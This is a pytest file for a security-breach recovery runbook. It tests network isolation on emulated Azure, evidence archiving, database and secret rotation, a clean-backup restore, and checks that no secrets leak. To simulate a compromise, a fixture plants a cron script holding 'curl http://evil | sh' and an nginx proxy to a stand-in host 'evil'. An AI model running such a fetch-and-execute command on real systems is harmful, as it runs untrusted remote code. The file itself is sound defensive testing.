"""The security-breach runbook end to end: NSGs and Key Vault on the loopback Azure endpoint,
evidence in Azurite, passwords rotated on a real PostgreSQL that demands them (SCRAM), the
restore runbook bringing back the last clean backup, and nothing secret left behind."""

from __future__ import annotations

import hashlib
import io
import json
import secrets
import shutil
import subprocess
import tarfile
import tempfile
from collections.abc import Iterator
from dataclasses import replace
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

import pytest
from azure.storage.blob import ContainerClient
from pydantic import SecretStr

from blocks.postgres import PostgresDatabase
from dr_runbooks.errors import ConnectionFailed
from dr_runbooks.postgres.connection import ConnInfo
from flows.backup_postgres import backup_postgres
from flows.security_breach import security_breach
from tests.azure.health import HealthServer
from tests.azure.landscape import NSG, Landscape, build
from tests.azure.runs import Background, answer
from tests.azure_api import AzureApi
from tests.azurite import Azurite
from tests.pg_helpers import PasswordServer
from tests.prefect_records import logs_and_artifacts_since

ADMIN_PASSWORD = "Adm1n-" + secrets.token_hex(8)
OLD_APP_PASSWORD = "Old-App-" + secrets.token_hex(8)
OLD_JWT = "Old-Jwt-" + secrets.token_hex(12)


@pytest.fixture(scope="module")
def password_server(pg_server: ConnInfo) -> Iterator[ConnInfo]:
    """A PostgreSQL that demands passwords (SCRAM) and logs every statement it runs (to show
    that a rotated password never reaches it, only its verifier)."""
    # pg_server first: starting it creates the OS user the password server runs as.
    base = Path(tempfile.mkdtemp(prefix="dr-tests-breach-"))
    server = PasswordServer(base, ADMIN_PASSWORD)
    info = replace(server.start(), password=SecretStr(ADMIN_PASSWORD))
    with info.connect() as conn:
        conn.execute("ALTER SYSTEM SET log_statement = 'all'")
        conn.execute("SELECT pg_reload_conf()")
    yield info
    server.stop()
    shutil.rmtree(base, ignore_errors=True)


def _server_log(server: ConnInfo) -> str:
    return (Path(server.host or "").parent / "server.log").read_text(errors="replace")


def _git(repo: Path, *args: str) -> str:
    result = subprocess.run(
        ["git", "-C", str(repo), *args], capture_output=True, text=True, check=True
    )
    return result.stdout.strip()


def _config_repository(tmp: Path) -> tuple[Path, str]:
    repo = tmp / "infrastructure"
    repo.mkdir()
    _git(repo, "init", "-q")
    _git(repo, "config", "user.email", "ops@dotcopilot.com")
    _git(repo, "config", "user.name", "Ops")
    (repo / "nginx.conf").write_text("server { listen 443; }\n")
    _git(repo, "add", ".")
    _git(repo, "commit", "-qm", "known good")
    good = _git(repo, "rev-parse", "HEAD")
    (repo / "nginx.conf").write_text(
        "server { listen 443; location /x { proxy_pass http://evil; } }\n"
    )
    _git(repo, "commit", "-qam", "tweak proxy")
    (repo / "cron.sh").write_text("curl http://evil | sh\n")
    return repo, good


@pytest.fixture
def breach_landscape(
    managed_identity: AzureApi,
    health: HealthServer,
    prefect_server: None,
    password_server: ConnInfo,
    azurite: Azurite,
    azure_container: str,
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
) -> Iterator[dict[str, Any]]:
    api = managed_identity
    database = f"shop_{secrets.token_hex(3)}"
    role = f"app_{secrets.token_hex(3)}"
    with password_server.connect() as conn:
        conn.execute(f"CREATE DATABASE {database}")
        conn.execute(f"CREATE ROLE {role} LOGIN PASSWORD '{OLD_APP_PASSWORD}'")
        conn.execute(f"GRANT ALL ON DATABASE {database} TO {role}")
    with password_server.connect(dbname=database) as conn:
        conn.execute("CREATE TABLE orders (id int PRIMARY KEY, item text)")
        conn.execute("INSERT INTO orders SELECT g, 'item ' || g FROM generate_series(1, 200) g")
    monkeypatch.setenv(
        "DR_BREACH_DSN",
        f"postgresql://postgres:{ADMIN_PASSWORD}@/{database}?host={password_server.host}",
    )
    api.vault.set("DB-PASSWORD", OLD_APP_PASSWORD)
    api.vault.set("JWT-SECRET", OLD_JWT)
    block = f"app-db-{secrets.token_hex(3)}"
    PostgresDatabase(
        host=password_server.host, user=role, password=SecretStr(OLD_APP_PASSWORD), dbname=database
    ).save(block, overwrite=True)
    logs, data = tmp_path / "var-log-app", tmp_path / "postgres_data"
    logs.mkdir()
    data.mkdir()
    (logs / "access.log").write_text("GET /admin 200 from 203.0.113.9\n" * 50)
    (data / "PG_VERSION").write_text("16\n")
    (data / "base").mkdir()
    (data / "base" / "1").write_bytes(secrets.token_bytes(4096))
    repo, good = _config_repository(tmp_path)
    services = tmp_path / "services.log"
    landscape = build(
        api,
        health,
        tmp_path,
        system_yaml=f"""
    connection: {{dsn_env: DR_BREACH_DSN}}
    databases: [{database}]
    breach:
      stop_command: [sh, -c, "echo stopped >> {services}"]
      start_command: [sh, -c, "echo started >> {services}"]
      command_timeout: 1m
      evidence_paths: [{logs}, {data}, {tmp_path / "not-there"}]
      evidence_repository: azure://{azure_container}
      config_repository: {repo}
      known_good: {good}
      postgres_roles: [{{role: {role}, key_vault_secret: DB-PASSWORD, block: {block}}}]
      key_vault_secrets: [JWT-SECRET]
""",
    )
    config = Path(landscape.config)
    config.write_text(
        config.read_text().replace("sites: {primary:", "sites: {database: none, primary:")
    )
    yield {
        "landscape": landscape,
        "database": database,
        "role": role,
        "block": block,
        "services": services,
        "container": azure_container,
        "azurite": azurite,
        "server": password_server,
    }


def _login(server: ConnInfo, role: str, database: str, password: str) -> bool:
    try:
        with replace(server, user=role, password=SecretStr(password), dbname=database).connect():
            return True
    except ConnectionFailed as exc:
        assert "password authentication failed" in str(exc)
        return False


def _everything_written_since(start: datetime, landscape: Landscape, result: Any) -> str:
    parts: list[str] = [json.dumps(result, default=str), logs_and_artifacts_since(start)]
    for path in landscape.records.rglob("*"):
        if path.is_file():
            parts.append(path.read_text(errors="replace"))
    return "\n".join(parts)


def test_breach_isolates_preserves_restores_rotates_and_resumes_after_approval(
    breach_landscape: dict[str, Any],
) -> None:
    env = breach_landscape
    landscape: Landscape = env["landscape"]
    api, server, database, role = landscape.api, env["server"], env["database"], env["role"]
    start = datetime.now(UTC)
    backup_postgres(system=landscape.system, config_path=landscape.config, retention=False)
    breach_time = datetime.now(UTC).isoformat()
    with server.connect(dbname=database) as conn:  # the attacker's work, after the backup
        conn.execute("DELETE FROM orders WHERE id > 100")
        conn.execute("INSERT INTO orders VALUES (9999, 'exfiltrate')")

    run = Background(
        lambda: security_breach(
            system=landscape.system,
            config_path=landscape.config,
            breach_time=breach_time,
            approved=True,
        )
    )
    # Paused for the second approval: isolated, evidence kept, data restored, secrets rotated.
    rules = None
    try:
        from tests.azure.runs import paused_run

        paused_run("security-breach", deadline=180)
        rules = landscape.nsg_rules()
    finally:
        if rules is None:
            run.join(5)
    for direction in ("Inbound", "Outbound"):
        deny = rules[f"DenyAll-{direction}"]
        assert (deny["priority"], deny["access"], deny["protocol"]) == (100, "Deny", "*")
        assert deny["sourceAddressPrefix"] == deny["destinationAddressPrefix"] == "*"
    assert "AllowHTTPS" not in rules  # it held priority 100: moved aside, to come back
    assert env["services"].read_text() == "stopped\n"
    with server.connect(dbname=database) as conn:
        assert conn.execute("SELECT count(*), max(id) FROM orders").fetchone() == (200, 200)
    new_password = api.vault.latest("DB-PASSWORD")
    assert new_password is not None and new_password.value != OLD_APP_PASSWORD
    assert not _login(server, role, database, OLD_APP_PASSWORD)
    assert _login(server, role, database, new_password.value)
    with server.connect() as conn:
        row = conn.execute(
            "SELECT rolpassword FROM pg_authid WHERE rolname = %s", (role,)
        ).fetchone()
    assert row is not None and row[0].startswith("SCRAM-SHA-256$")
    log = _server_log(server)
    assert f'ALTER ROLE "{role}" PASSWORD \'SCRAM-SHA-256$' in log  # the verifier, computed here
    assert new_password.value not in log

    answer("security-breach", approve=True, reason="clean")
    result = run.join(120)

    rules = landscape.nsg_rules()
    assert "DenyAll-Inbound" not in rules and "DenyAll-Outbound" not in rules
    assert rules["AllowHTTPS"]["priority"] == 100
    assert rules["AllowHTTPS"]["destinationPortRange"] == "443"
    assert env["services"].read_text() == "stopped\nstarted\n"
    assert {row["result"] for row in result["audit"]} == {"pass"}, result["audit"]
    checks = {row["check"] for row in result["audit"]}
    assert "isolation held until approval" in checks
    assert f"postgres {role}: old password refused" in checks
    assert f"block {env['block']}: holds the new password" in checks
    stored = PostgresDatabase.load(env["block"]).password
    assert stored is not None and stored.get_secret_value() == new_password.value
    jwt = api.vault.latest("JWT-SECRET")
    assert jwt is not None and jwt.value != OLD_JWT and len(api.vault.secrets["JWT-SECRET"]) == 2
    changes = result["configuration_changes"]
    assert [c["subject"] for c in changes["commits"]] == ["tweak proxy"]
    assert {"status": "M", "path": "nginx.conf"} in changes["files"]
    assert changes["uncommitted"] == ["?? cron.sh"]

    # The evidence, downloaded from Azurite, matches the custody record kept elsewhere.
    custody_key = result["evidence"]["custody"]
    custody = json.loads((landscape.records / custody_key).read_text())
    assert custody["launched_by"] and custody["case"] == result["evidence"]["case"]
    assert custody["immutability"].startswith("not immutable")  # Azurite has no legal hold
    container = ContainerClient.from_connection_string(
        env["azurite"].connection_string, env["container"]
    )
    archived = [i for i in custody["items"] if not i["missing"]]
    assert len(archived) == 2 and [i for i in custody["items"] if i["missing"]]
    for item in archived:
        blob = container.download_blob(item["archive"]).readall()
        assert hashlib.sha256(blob).hexdigest() == item["sha256"]
        with tarfile.open(fileobj=io.BytesIO(blob)) as tar:
            names = tar.getnames()
        assert any(n.endswith("access.log") for n in names) or any(
            n.endswith("PG_VERSION") for n in names
        )

    # No secret, old or new, in the logs, the artifacts, the result or the records.
    written = _everything_written_since(start, landscape, result)
    for secret in (
        OLD_APP_PASSWORD,
        new_password.value,
        OLD_JWT,
        jwt.value,
        ADMIN_PASSWORD,
    ):
        assert secret not in written
    assert "DenyAll-Inbound" in written  # the check reads what was written


def test_breach_dry_run_changes_nothing(breach_landscape: dict[str, Any]) -> None:
    landscape: Landscape = breach_landscape["landscape"]
    result = security_breach(
        system=landscape.system,
        config_path=landscape.config,
        breach_time="2026-11-28T05:00:00Z",
        dry_run=True,
    )
    assert "rule AllowHTTPS holds priority 100" in result["plan"]
    assert f"NSG {NSG} Outbound: add DenyAll-Outbound" in result["plan"]
    assert [c for c in landscape.api.calls if c.method not in ("GET", "HEAD")] == []
    assert not breach_landscape["services"].exists()


def test_a_breach_left_isolated_is_resumed_by_a_later_run_without_redoing_anything(
    breach_landscape: dict[str, Any],
) -> None:
    env = breach_landscape
    landscape: Landscape = env["landscape"]
    api = landscape.api
    first = security_breach(
        system=landscape.system,
        config_path=landscape.config,
        restore=False,
        resume="later",
        approved=True,
    )
    assert first["isolated"] is True and first["record"] is None
    assert {"DenyAll-Inbound", "DenyAll-Outbound"} <= set(landscape.nsg_rules())
    assert landscape.records.joinpath("breach", landscape.system, "active.json").exists()
    rule_writes = len(api.calls_to("PUT", "securityRules/"))
    versions = {name: len(v) for name, v in api.vault.secrets.items()}
    evidence = ContainerClient.from_connection_string(
        env["azurite"].connection_string, env["container"]
    )
    uploaded = {b.name: b.etag for b in evidence.list_blobs()}

    second = security_breach(
        system=landscape.system,
        config_path=landscape.config,
        restore=False,
        resume="now",
        approved=True,
    )

    assert second["isolated"] is False
    assert {row["result"] for row in second["audit"]} == {"pass"}, second["audit"]
    assert "AllowHTTPS" in landscape.nsg_rules() and "DenyAll-Inbound" not in landscape.nsg_rules()
    # Only the displaced rule was written again; no password or secret was rotated twice; the
    # evidence was not uploaded again.
    assert len(api.calls_to("PUT", "securityRules/")) == rule_writes + 1
    assert {name: len(v) for name, v in api.vault.secrets.items()} == versions
    assert {b.name: b.etag for b in evidence.list_blobs()} == uploaded
    assert env["services"].read_text() == "stopped\nstarted\n"
    history = landscape.records / "breach" / landscape.system / "history"
    [record] = [json.loads(p.read_text()) for p in history.iterdir()]
    assert record["status"] == "completed" and len(record["runs"]) == 2
